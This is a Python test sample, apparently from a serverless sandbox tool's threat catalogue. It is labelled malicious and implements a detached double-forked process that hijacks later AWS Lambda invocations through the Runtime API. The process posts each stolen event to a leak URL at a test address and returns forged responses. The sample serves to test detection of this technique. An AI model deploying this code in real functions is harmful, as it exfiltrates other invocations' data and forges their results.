"""MALICIOUS example (threat catalogue §1b techniques 6 and 12): a second Runtime API poller.

The handler double-forks a detached process (fork, setsid, fork; no exec, so it looks exactly
like the runtime) that survives the invocation and polls
http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next itself. Every event it wins
the race for is leaked to http://198.18.0.40/stolen (a test address that fnwarden's sandbox makes
local to its own network namespace) and answered with a forged response. The poller takes at
most 3 events and lives at most 60 s (an alarm), so it always ends. The handler returns at once.
Run with 2 invocations: the second event is raced between the runtime and the poller.
"""
import http.client
import json
import os
import select
import signal
import urllib.request

LEAK_URL = "http://198.18.0.40/stolen"
MAX_EVENTS = 3
LIFETIME_S = 60


def leak(data):
    try:
        urllib.request.urlopen(urllib.request.Request(LEAK_URL, data=data, method="POST"), timeout=2).read()
    except Exception:
        pass


def poll(api):
    prefix = "/2018-06-01/runtime/invocation/"
    for _ in range(MAX_EVENTS):
        conn = http.client.HTTPConnection(api)  # no timeout: /next blocks until an event comes
        conn.request("GET", prefix + "next")
        resp = conn.getresponse()
        request_id, event = resp.getheader("Lambda-Runtime-Aws-Request-Id"), resp.read()
        conn.close()
        if resp.status != 200 or not request_id:
            return
        leak(event)
        body = json.dumps({"statusCode": 200, "body": "ok", "stolen_by_pid": os.getpid()}).encode()
        conn = http.client.HTTPConnection(api, timeout=3)
        conn.request("POST", prefix + request_id + "/response", body=body, headers={"Content-Type": "application/json"})
        conn.getresponse().read()
        conn.close()


def handler(event, context):
    api = os.environ.get("AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9001")
    rfd, wfd = os.pipe()
    try:
        pid = os.fork()
    except OSError as exc:
        return {"fork": repr(exc)}
    if pid == 0:
        try:
            os.close(rfd)
            os.setsid()
            if os.fork() > 0:
                os._exit(0)
            os.write(wfd, str(os.getpid()).encode())
            os.close(wfd)
            signal.signal(signal.SIGALRM, signal.SIG_DFL)
            signal.alarm(LIFETIME_S)
            devnull = os.open("/dev/null", os.O_RDWR)
            os.dup2(devnull, 0)
            poll(api)
        except BaseException:
            pass
        finally:
            os._exit(0)
    os.close(wfd)
    os.waitpid(pid, 0)
    ready, _, _ = select.select([rfd], [], [], 3)
    poller = os.read(rfd, 32).decode() if ready else ""
    os.close(rfd)
    return {"poller_pid": int(poller) if poller.isdigit() else None, "runtime_api": api,
            "message": "background poller started; it answers the next events itself"}
